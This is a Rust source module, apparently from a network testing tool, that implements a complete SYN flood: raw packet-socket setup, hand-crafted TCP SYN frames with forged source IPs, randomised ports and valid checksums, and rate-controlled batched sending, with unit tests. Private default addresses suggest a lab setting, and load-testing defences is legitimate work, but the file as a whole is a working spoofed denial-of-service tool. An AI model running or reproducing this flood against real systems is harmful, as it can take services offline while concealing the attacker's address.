//! A flood of SYNs: raw frames out of an interface, each with another source.

use crate::sys::check;
use clap::Args;
use serde::Serialize;
use std::ffi::CString;
use std::io;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::time::{Duration, Instant};

/// Arguments of the flood.
#[derive(Args)]
pub struct Options {
    /// The listener that is flooded, such as 10.77.0.1:9000.
    target: SocketAddrV4,
    /// The interface that the frames leave by.
    #[arg(long, default_value = "eth1")]
    interface: String,
    /// Its MAC address, such as 02:00:00:00:00:01.
    #[arg(long, value_parser = mac)]
    from_mac: [u8; 6],
    /// The MAC address of the target's interface.
    #[arg(long, value_parser = mac)]
    to_mac: [u8; 6],
    /// The first of the forged sources.
    #[arg(long)]
    first_source: Ipv4Addr,
    /// How many there are.
    #[arg(long, default_value_t = 200, value_parser = clap::value_parser!(u8).range(1..))]
    sources: u8,
    /// SYNs per second.
    #[arg(long, default_value_t = 50_000, value_parser = clap::value_parser!(u64).range(1..))]
    per_second: u64,
    /// Seconds.
    #[arg(long, default_value_t = 2.0)]
    seconds: f64,
}

/// What was sent.
#[derive(Serialize)]
pub struct Report {
    syns: u64,
    seconds: f64,
}

/// Frames that the kernel gets at a time.
const BATCH: usize = 50;
const ETHERNET: usize = 14;
const IP: usize = 20;
/// With the option of the segment size.
const TCP: usize = 24;
const FRAME: usize = ETHERNET + IP + TCP;
type Frame = [u8; FRAME];

fn mac(text: &str) -> Result<[u8; 6], String> {
    let bytes: Result<Vec<u8>, _> = text.trim().split(':').map(|byte| u8::from_str_radix(byte, 16)).collect();
    bytes.ok().and_then(|bytes| bytes.try_into().ok()).ok_or_else(|| "six bytes such as 02:00:00:00:00:01".to_owned())
}

/// Sends until the time is up.
pub fn run(options: &Options) -> io::Result<Report> {
    let socket = packet_socket(&options.interface)?;
    let (start, mut syns) = (Instant::now(), 0);
    let length = Duration::from_secs_f64(options.seconds);
    while start.elapsed() < length {
        let due = start.elapsed().as_micros() as u64 * options.per_second / 1_000_000;
        if syns + BATCH as u64 > due {
            std::thread::sleep(Duration::from_micros(500));
            continue;
        }
        let mut frames: Vec<Frame> = (0..BATCH as u64).map(|i| syn(options, syns + i)).collect();
        syns += send(&socket, &mut frames)?;
    }
    Ok(Report { syns, seconds: start.elapsed().as_secs_f64() })
}

/// A packet socket on an interface. It receives nothing.
fn packet_socket(interface: &str) -> io::Result<OwnedFd> {
    let name = CString::new(interface)?;
    // SAFETY: the name ends with a zero byte.
    let index = unsafe { libc::if_nametoindex(name.as_ptr()) };
    if index == 0 {
        return Err(io::Error::last_os_error());
    }
    // SAFETY: the call takes numbers. Protocol 0 means that the socket receives nothing.
    let fd = check(unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW | libc::SOCK_CLOEXEC, 0) })?;
    // SAFETY: the kernel has just returned this descriptor, and nobody else has it.
    let fd = unsafe { OwnedFd::from_raw_fd(fd) };
    // Frames count until the target's kernel has looked at them. A flood does not wait for that.
    let room: libc::c_int = 64 << 20;
    let (value, length) = ((&raw const room).cast(), size_of_val(&room) as u32);
    // SAFETY: `room` outlives the call and has the length given.
    check(unsafe { libc::setsockopt(fd.as_raw_fd(), libc::SOL_SOCKET, libc::SO_SNDBUFFORCE, value, length) })?;
    // SAFETY: the structure consists of integers, so all zero is valid.
    let mut at: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    (at.sll_family, at.sll_ifindex) = (libc::AF_PACKET as u16, index as i32);
    // SAFETY: `at` outlives the call and has the length given.
    check(unsafe { libc::bind(fd.as_raw_fd(), (&raw const at).cast(), size_of_val(&at) as u32) })?;
    Ok(fd)
}

/// Gives the kernel frames, and returns how many it took.
fn send(socket: &OwnedFd, frames: &mut [Frame]) -> io::Result<u64> {
    let mut parts: Vec<libc::iovec> =
        frames.iter_mut().map(|frame| libc::iovec { iov_base: frame.as_mut_ptr().cast(), iov_len: FRAME }).collect();
    let message = |part: &mut libc::iovec| {
        // SAFETY: the structure consists of integers and pointers, so all zero is valid.
        let mut message: libc::mmsghdr = unsafe { std::mem::zeroed() };
        (message.msg_hdr.msg_iov, message.msg_hdr.msg_iovlen) = (part, 1);
        message
    };
    let mut messages: Vec<libc::mmsghdr> = parts.iter_mut().map(message).collect();
    // SAFETY: messages, vectors and frames outlive the call.
    let sent = unsafe { libc::sendmmsg(socket.as_raw_fd(), messages.as_mut_ptr(), messages.len() as u32, 0) };
    match check(sent) {
        Ok(sent) => Ok(sent as u64),
        // The interface's queue is full, which is a part of a flood.
        Err(error) if error.raw_os_error() == Some(libc::ENOBUFS) => Ok(0),
        Err(error) => Err(error),
    }
}

/// The `n`th SYN. Source address, port and sequence number differ each time.
fn syn(options: &Options, n: u64) -> Frame {
    let mixed = n.wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ (n << 40);
    let source = options.first_source.to_bits() + u32::from((mixed >> 56) as u8 % options.sources);
    let mut frame = [0; FRAME];
    let (ethernet, packet) = frame.split_at_mut(ETHERNET);
    ethernet[..6].copy_from_slice(&options.to_mac);
    ethernet[6..12].copy_from_slice(&options.from_mac);
    ethernet[12..].copy_from_slice(&0x0800u16.to_be_bytes());
    let (ip, tcp) = packet.split_at_mut(IP);
    // Version and length, total length, TTL, protocol.
    ip[0] = 0x45;
    ip[2..4].copy_from_slice(&((IP + TCP) as u16).to_be_bytes());
    (ip[8], ip[9]) = (64, libc::IPPROTO_TCP as u8);
    ip[12..16].copy_from_slice(&source.to_be_bytes());
    ip[16..20].copy_from_slice(&options.target.ip().octets());
    let sum = checksum(ip, 0);
    ip[10..12].copy_from_slice(&sum.to_be_bytes());
    tcp[..2].copy_from_slice(&(1024 + (mixed >> 16) as u16 % 60_000).to_be_bytes());
    tcp[2..4].copy_from_slice(&options.target.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&((mixed >> 24) as u32).to_be_bytes());
    // Length of the header, SYN, window, and the segment size of Ethernet.
    (tcp[12], tcp[13]) = ((TCP as u8 / 4) << 4, 2);
    tcp[14..16].copy_from_slice(&u16::MAX.to_be_bytes());
    tcp[20..24].copy_from_slice(&[2, 4, (1460u16 >> 8) as u8, 1460u16 as u8]);
    let pseudo = words(&ip[12..20]) + libc::IPPROTO_TCP as u32 + TCP as u32;
    let sum = checksum(tcp, pseudo);
    tcp[16..18].copy_from_slice(&sum.to_be_bytes());
    frame
}

fn words(bytes: &[u8]) -> u32 {
    bytes.chunks_exact(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]]))).sum()
}

/// The Internet checksum of an even number of bytes, on top of a sum.
fn checksum(bytes: &[u8], start: u32) -> u16 {
    let mut sum = start + words(bytes);
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;
    use std::collections::BTreeSet;

    fn options() -> Options {
        Options {
            target: "10.77.0.1:9000".parse().unwrap(),
            interface: "eth1".to_owned(),
            from_mac: mac("02:00:00:00:00:01").unwrap(),
            to_mac: mac("02:00:00:00:00:02").unwrap(),
            first_source: "10.77.0.10".parse().unwrap(),
            sources: 200,
            per_second: 1,
            seconds: 1.0,
        }
    }

    #[test]
    fn each_syn_has_another_source_and_valid_checksums() {
        let options = options();
        let frames: Vec<Frame> = (0..1000).map(|n| syn(&options, n)).collect();
        let sources: BTreeSet<&[u8]> = frames.iter().map(|frame| &frame[ETHERNET + 12..ETHERNET + IP + 2]).collect();
        assert!(sources.len() > 990, "{}", sources.len());
        for frame in &frames {
            let (ip, tcp) = (&frame[ETHERNET..ETHERNET + IP], &frame[ETHERNET + IP..]);
            assert_eq!(checksum(ip, 0), 0);
            assert_eq!(checksum(tcp, words(&ip[12..20]) + libc::IPPROTO_TCP as u32 + TCP as u32), 0);
            assert!((10..210).contains(&ip[15]), "{ip:?}");
        }
    }

    #[test]
    fn an_address_has_six_bytes() {
        assert!(mac("02:00:00:00:00").is_err() && mac("02:00:00:00:00:zz").is_err());
    }
}
